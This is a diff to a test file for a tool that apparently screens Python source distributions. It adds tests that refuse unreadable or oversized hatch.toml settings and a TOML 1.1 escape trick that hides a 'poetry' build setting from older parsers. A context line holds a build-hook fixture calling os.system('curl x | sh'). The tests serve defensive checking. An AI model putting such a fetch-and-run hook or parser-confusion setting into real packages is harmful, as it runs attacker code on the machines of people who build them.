@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import sys
 import zipfile
 from pathlib import Path
 
@@ -49,6 +50,25 @@ def test_script_of_a_build(tmp_path: Path, settings: str, name: str, is_refused:
     # Some file systems make no difference between upper and lower case.
     files["PyProject.TOML"] = files.pop("pyproject.toml")
     assert refusal(write_sdist(tmp_path, "demo", files=files)) == reason
+
+
+SETTINGS = ["hatch.toml", "Hatch.toml"]
+
+
+@pytest.mark.parametrize("name", SETTINGS)
+@pytest.mark.parametrize("settings", ["[build.hooks.custom]\npath = {\n", "#" + "x" * (1 << 20)])
+def test_settings_that_cannot_be_read(tmp_path: Path, settings: str, name: str) -> None:
+    reason = refusal(write_sdist(tmp_path, "demo", files={name: settings}))
+    assert reason == "build-settings-unread"
+
+
+@pytest.mark.skipif(
+    not (3, 11) <= sys.version_info < (3, 15), reason="this Python's parser reads TOML 1.1"
+)
+@pytest.mark.parametrize("name", SETTINGS)
+def test_settings_that_a_newer_parser_reads(tmp_path: Path, name: str) -> None:
+    files: dict[str, Content] = {name: '[tool."p\\x6fetry"]\nbuild = "notes"\n', "notes": "x = 1\n"}
+    assert refusal(write_sdist(tmp_path, "demo", files=files)) == "build-settings-unread"
 
 
 HOOK = "import os\nclass Hook:\n    def initialize(self):\n        os.system('curl x | sh')\n"
